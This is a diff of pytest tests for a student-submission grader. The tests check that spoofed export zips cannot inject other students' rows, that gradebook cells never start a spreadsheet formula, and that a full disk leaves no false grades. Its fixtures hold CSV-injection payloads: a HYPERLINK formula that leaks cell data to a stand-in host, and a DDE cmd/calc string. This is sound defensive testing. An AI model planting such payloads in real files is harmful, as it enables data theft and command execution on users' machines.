@@ -7,14 +7,17 @@ a results.json without a fingerprint is graded again. Discovery takes only folde
 from __future__ import annotations
 
 import csv
+import errno
 import json
 import os
+import re
 import shutil
 import signal
 import subprocess
 import sys
 import time
 import zipfile
+from collections.abc import Iterator
 from pathlib import Path
 from typing import Any
 
@@ -69,7 +72,7 @@ def test_export_zip_keeps_submitters_in_gradebook(
     main(
         [
             "grade",
-            str(_export_zip(tmp_path / "export.zip")),
+            str(_export_zip(tmp_path / "assignment_77_export.zip")),
             "--out",
             str(out),
             "--rubric",
@@ -317,3 +320,312 @@ def test_a_damaged_zip_in_a_folder_is_still_a_submission(tmp_path: Path, rubric:
     (subs / "bob.zip").write_bytes(b"not a zip at all")
     sources = discover([subs], dict(rubric.files), tmp_path)
     assert sorted(s.name for s in sources) == sorted([WRITTEN_ONLY[0], "bob"])
+
+
+# ---------------------------------------------------------------- exports are the instructor's, never a student's
+
+MALLORY_YAML = """\
+submission_999:
+  :submitters:
+  - :name: Victim, Vera
+    :sid: '20230001'
+    :email: vera@uni.example.edu
+  :created_at: 2023-12-02 02:52:07.938335000 Z
+"""
+
+
+def _gradebook(out: Path) -> dict[str, dict[str, str]]:
+    with (out / "gradebook.csv").open(encoding="utf-8", newline="") as stream:
+        return {row["submission"]: row for row in csv.DictReader(stream)}
+
+
+def _export_like_zip(path: Path, top: str = "assignment_1_export/") -> Path:
+    """A student's zip laid out as an export: the YAML and a submission_<id>/ naming a victim."""
+    with zipfile.ZipFile(path, "w") as archive:
+        archive.writestr("submission_metadata.yml", MALLORY_YAML)
+        archive.writestr(f"{top}submission_metadata.yml", MALLORY_YAML)
+        archive.writestr(f"{top}submission_999/hw1_written.yaml", "q1_1: 0\n")
+        archive.writestr("hw1_written.yaml", (SAMPLES / "answer_key" / "hw1_written.yaml").read_bytes())
+    return path
+
+
+def test_a_students_folder_holding_the_export_yaml_is_one_submission(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """A folder batch with a student's copy of submission_metadata.yml: everybody is graded (was exit 2)."""
+    subs = _copy_samples(tmp_path / "subs", WRITTEN_ONLY[:2])
+    (subs / WRITTEN_ONLY[0] / "submission_metadata.yml").write_text(MALLORY_YAML, encoding="utf-8")
+    (subs / WRITTEN_ONLY[0] / "submission_999").mkdir()
+    out = tmp_path / "out"
+    code = main(["grade", str(subs), "--out", str(out), "--rubric", str(RUBRIC)])
+    capsys.readouterr()
+    assert code in (0, 1)
+    assert list(_gradebook(out)) == WRITTEN_ONLY[:2]
+
+
+@pytest.mark.parametrize("how", ["named", "in_a_folder"])
+def test_a_students_zip_laid_out_as_an_export_is_one_submission(
+    how: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """`grader grade subs/*.zip`: a zip holding the YAML and submission_<id>/ injects no rows."""
+    subs = tmp_path / "subs"
+    subs.mkdir()
+    _export_like_zip(subs / "mallory.zip")
+    shutil.make_archive(str(subs / "bob"), "zip", SAMPLES / WRITTEN_ONLY[1])
+    out = tmp_path / "out"
+    inputs = [str(subs / "mallory.zip"), str(subs / "bob.zip")] if how == "named" else [str(subs)]
+    code = main(["grade", *inputs, "--out", str(out), "--rubric", str(RUBRIC)])
+    err = capsys.readouterr().err
+    assert code in (0, 1)
+    rows = _gradebook(out)
+    assert sorted(rows) == ["bob", "mallory"]
+    assert not any("20230001" in row["sids"] or "Victim" in row["names"] for row in rows.values())
+    assert float(rows["mallory"]["q1_2_graph"]) == 5  # its own answers were graded, as a submission
+    if how == "named":
+        assert "not named like a Gradescope export" in err and "--export" in err
+
+
+def test_a_renamed_export_is_read_with_export(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    """Gradescope's download saved under another name: one submission, unless --export says otherwise."""
+    renamed = _export_zip(tmp_path / "hw1 submissions.zip")
+    out = tmp_path / "out"
+    main(["grade", str(renamed), "--out", str(out), "--rubric", str(RUBRIC)])
+    assert "pass --export" in capsys.readouterr().err
+    assert list(_gradebook(out)) == ["hw1_submissions"]
+    main(["grade", str(renamed), "--out", str(tmp_path / "out2"), "--rubric", str(RUBRIC), "--export"])
+    assert "read as a Gradescope export of 2 submissions" in capsys.readouterr().err
+    assert list(_gradebook(tmp_path / "out2")) == ["submission_101", "submission_102"]
+
+
+def test_an_unpacked_export_folder_is_still_found(tmp_path: Path, rubric: Rubric) -> None:
+    """`unzip assignment_77_export.zip` then `grader grade assignment_77_export`: an export."""
+    with zipfile.ZipFile(_export_zip(tmp_path / "assignment_77_export.zip")) as archive:
+        archive.extractall(tmp_path / "unpacked")
+    for folder in (tmp_path / "unpacked" / "assignment_77_export", tmp_path / "unpacked"):
+        if folder.name == "unpacked":
+            folder = folder.rename(tmp_path / "assignment_77_export (1)")
+        sources = discover([folder], dict(rubric.files), tmp_path / "w")
+        assert [s.name for s in sources] == ["submission_101", "submission_102"], folder
+    with pytest.raises(GraderError, match="no Gradescope export found"):
+        discover([SAMPLES / "answer_key"], dict(rubric.files), tmp_path / "w", export=True)
+
+
+# ---------------------------------------------------------------- gradebook.csv is inert in a spreadsheet
+
+HOSTILE_YAML = """\
+submission_201:
+  :submitters:
+  - :name: '=HYPERLINK("http://evil.example/?x="&A1,"Click me")'
+    :sid: '-2+3'
+    :email: '@SUM(1+1)*cmd|'' /C calc''!A0'
+  - :name: "\\t=1+1"
+    :sid: "\\r=2"
+    :email: '+1@uni.example.edu'
+  :created_at: 2023-12-02 02:52:07.938335000 Z
+submission_202:
+  :submitters:
+  - :name: '  =1+1'
+    :sid: '20230002'
+    :email: ok@uni.example.edu
+"""
+
+
+def test_gradebook_cells_never_start_a_formula(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    """Names, emails and ids a student chose start with a quote if a spreadsheet would run them.
+
+    Read back with the csv module: each such cell is the original text behind one "'", the
+    others are unchanged and the scores are still plain numbers. summary.html escapes them.
+    """
+    export = tmp_path / "assignment_5_export.zip"
+    with zipfile.ZipFile(export, "w") as archive:
+        archive.writestr("assignment_5_export/submission_metadata.yml", HOSTILE_YAML)
+        for sub_id in ("201", "202"):
+            archive.writestr(f"assignment_5_export/submission_{sub_id}/hw1_written.yaml",
+                             (SAMPLES / "reference" / "hw1_written.yaml").read_bytes())
+    out = tmp_path / "out"
+    main(["grade", str(export), "--out", str(out), "--rubric", str(RUBRIC)])
+    capsys.readouterr()
+    with (out / "gradebook.csv").open(encoding="utf-8", newline="") as stream:
+        header, *rows = list(csv.reader(stream))
+    texts = {"submission", "names", "emails", "sids", "status"}
+    expected = {
+        "submission_201": {
+            "names": '\'=HYPERLINK("http://evil.example/?x="&A1,"Click me"); \t=1+1',
+            "emails": "'@SUM(1+1)*cmd|' /C calc'!A0; +1@uni.example.edu",
+            "sids": "'-2+3; \r=2",
+        },
+        "submission_202": {"names": "'  =1+1", "emails": "ok@uni.example.edu", "sids": "20230002"},
+    }
+    for row in rows:
+        cells = dict(zip(header, row, strict=True))
+        for column, value in cells.items():
+            if column in texts:
+                assert not value.lstrip().startswith(("=", "+", "-", "@")), (column, value)
+                assert not value.startswith(("\t", "\r")), (column, value)
+            elif value:
+                float(value)  # a number, never quoted
+        for column, value in expected[cells["submission"]].items():
+            assert cells[column] == value, (column, cells[column])
+    page = (out / "summary.html").read_text(encoding="utf-8")
+    assert "=HYPERLINK(&quot;http://evil.example/?x=&quot;&amp;A1,&quot;Click me&quot;)" in page
+    assert 'HYPERLINK("' not in page
+
+
+# ---------------------------------------------------------------- a full disk costs no student a grade
+
+def _no_space(*args: Any, **kwargs: Any) -> None:
+    raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))
+
+
+def test_a_full_disk_leaves_failures_a_rerun_grades(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """ENOSPC for some submissions: the batch finishes, says who was not graded, exits 1; a re-run resumes.
+
+    reference's sandbox cannot start (the engine scores its notebook items 0 as internal errors:
+    that 60 is no grade), answer_key's results.json cannot be written, expression_injection's
+    temporary folder cannot be made, and gradebook.csv cannot be written. The others are graded.
+    """
+    import grader.engine
+
+    names = ["reference", *WRITTEN_ONLY]
+    subs, out = _copy_samples(tmp_path / "subs", names), tmp_path / "out"
+    real_start, real_write = grader.engine.start_session, grader.batch.write_json_atomic
+    real_open, real_gradebook = grader.batch.open_submission, grader.batch.write_gradebook
+    full = [True]
+
+    def start_session(*args: Any, **kwargs: Any) -> Any:
+        if full[0] and kwargs["submission_dir"].name == "reference":
+            _no_space()
+        return real_start(*args, **kwargs)
+
+    def write_json(path: Path, document: Any) -> None:
+        if full[0] and path.parent.name == "answer_key":
+            _no_space()
+        real_write(path, document)
+
+    def open_submission(path: Path, *args: Any, **kwargs: Any) -> Any:
+        if full[0] and path.name == "expression_injection":
+            _no_space()
+        return real_open(path, *args, **kwargs)
+
+    def write_gradebook(*args: Any) -> None:
+        if full[0]:
+            _no_space()
+        real_gradebook(*args)
+
+    monkeypatch.setattr(grader.engine, "start_session", start_session)
+    monkeypatch.setattr(grader.batch, "write_json_atomic", write_json)
+    monkeypatch.setattr(grader.batch, "open_submission", open_submission)
+    monkeypatch.setattr(grader.batch, "write_gradebook", write_gradebook)
+
+    assert main(["grade", str(subs), "--out", str(out), "--rubric", str(RUBRIC), "--jobs", "2"]) == 1
+    captured = capsys.readouterr()
+    failed = {"reference", "answer_key", "expression_injection"}
+    assert "3 of 4 submissions could not be graded" in captured.err
+    for name in failed:
+        assert re.search(rf"^  {name}: .*No space left on device", captured.err, re.MULTILINE), captured.err
+        assert re.search(rf"^{name} .* NOT GRADED$", captured.out, re.MULTILINE), captured.out
+    assert f"could not write {out / 'gradebook.csv'}: No space left on device" in captured.err
+    assert not (out / "gradebook.csv").exists() and not list(out.glob(".*.tmp"))
+    page = (out / "summary.html").read_text(encoding="utf-8")
+    assert "3 not graded" in page and "No space left on device" in page
+    assert not (out / "answer_key" / "results.json").exists()
+    for name in ("reference", "expression_injection"):  # written, but as a failure: no fingerprint
+        document = assert_valid_results(out / name / "results.json")
+        assert FINGERPRINT not in document["extra_data"]
+        assert "No space left on device" in document["extra_data"]["grading_failed"]
+    assert FINGERPRINT in assert_valid_results(out / "yaml_python_tags" / "results.json")["extra_data"]
+
+    full[0] = False
+    graded = _count_grading(monkeypatch)
+    assert main(["grade", str(subs), "--out", str(out), "--rubric", str(RUBRIC)]) == 0
+    captured = capsys.readouterr()
+    assert sorted(graded) == sorted(failed)
+    assert "1 of 4 already graded and unchanged" in captured.err and "could not" not in captured.err
+    rows = _gradebook(out)
+    assert {row["status"] for row in rows.values()} == {"graded"}
+    assert float(rows["reference"]["total"]) == 135
+
+
+def test_a_failed_grade_has_no_scores_in_the_gradebook(tmp_path: Path, rubric: Rubric) -> None:
+    """Zeros that are not a grade would be uploaded as one: the row is empty but for why."""
+    row = grader.batch.BatchRow("x", (), {"p1": 3.0}, {"p1_step": 3.0}, 60.0, 135.0,
+                                failure="grader internal error on p1_step (OSError: [Errno 28] No space)")
+    grader.batch.write_gradebook(tmp_path / "g.csv", [row], rubric)
+    with (tmp_path / "g.csv").open(encoding="utf-8", newline="") as stream:
+        (cells,) = list(csv.DictReader(stream))
+    assert cells["total"] == "" and cells["p1"] == "" and cells["item:p1_step"] == "" and cells["max"] == "135"
+    assert cells["status"].startswith("not graded, run again: grader internal error on p1_step")
+
+
+@pytest.fixture
+def tiny_disk(tmp_path: Path) -> Iterator[Path]:
+    """A 4 MB tmpfs mounted for one test; skipped, with the reason, where mounting is not permitted."""
+    if os.name != "posix" or os.geteuid() != 0:
+        pytest.skip("mounting a tmpfs needs root")
+    disk = tmp_path / "disk"
+    disk.mkdir()
+    try:
+        run = subprocess.run(["mount", "-t", "tmpfs", "-o", "size=4m,mode=0755", "tmpfs", str(disk)],
+                             capture_output=True, text=True, timeout=30, check=False)
+    except (OSError, subprocess.SubprocessError) as exc:
+        pytest.skip(f"cannot run mount here: {exc}")
+    if run.returncode != 0:
+        pytest.skip(f"cannot mount a tmpfs here: {run.stderr.strip() or run.returncode}")
+    try:
+        yield disk
+    finally:
+        subprocess.run(["umount", "-l", str(disk)], capture_output=True, timeout=30, check=False)
+
+
+def _fill(disk: Path, leave: int) -> Path:
+    """Fill `disk` to the last byte, then free `leave` bytes; the file that fills it."""
+    filler = disk / "filler"
+    handle = os.open(filler, os.O_WRONLY | os.O_CREAT, 0o600)
+    try:
+        while True:
+            os.write(handle, b"\0" * 65536)
+    except OSError as exc:
+        assert exc.errno == errno.ENOSPC, exc
+    finally:
+        os.close(handle)
+    os.truncate(filler, max(filler.stat().st_size - leave, 0))
+    return filler
+
+
+def test_a_real_full_disk_costs_no_student_a_grade(
+    tiny_disk: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """Output and temporary folder on a full tmpfs: nobody gets a grade the disk made, a re-run finishes."""
+    import tempfile
+
+    names = ["reference", *WRITTEN_ONLY]
+    subs, out, temp = _copy_samples(tmp_path / "subs", names), tiny_disk / "out", tiny_disk / "tmp"
+    out.mkdir()
+    temp.mkdir()
+    monkeypatch.setattr(tempfile, "tempdir", str(temp))
+    filler = _fill(tiny_disk, leave=24 * 1024)  # room for about two results.json, not for everything
+    command = ["grade", str(subs), "--out", str(out), "--rubric", str(RUBRIC), "--jobs", "1"]
+    assert main(command) == 1
+    first = capsys.readouterr()
+    not_graded = set(re.findall(r"^  (\S+): ", first.err, re.MULTILINE))
+    assert not_graded, first.err
+    for name in names:
+        results = out / name / "results.json"
+        if name in not_graded:
+            assert not results.exists() or FINGERPRINT not in json.loads(results.read_text())["extra_data"]
+            continue
+        document = assert_valid_results(results)  # graded: final, and really graded
+        assert FINGERPRINT in document["extra_data"], name
+        assert not any("internal error" in test["output"] for test in document["tests"]), name
+    assert not [p for p in out.rglob("*") if p.name.endswith(".tmp")]
+
+    filler.unlink()
+    graded = _count_grading(monkeypatch)
+    assert main(command) == 0, capsys.readouterr().err
+    capsys.readouterr()
+    assert sorted(graded) == sorted(not_graded)
+    rows = _gradebook(out)
+    assert {row["status"] for row in rows.values()} == {"graded"}
+    assert float(rows["reference"]["total"]) == 135
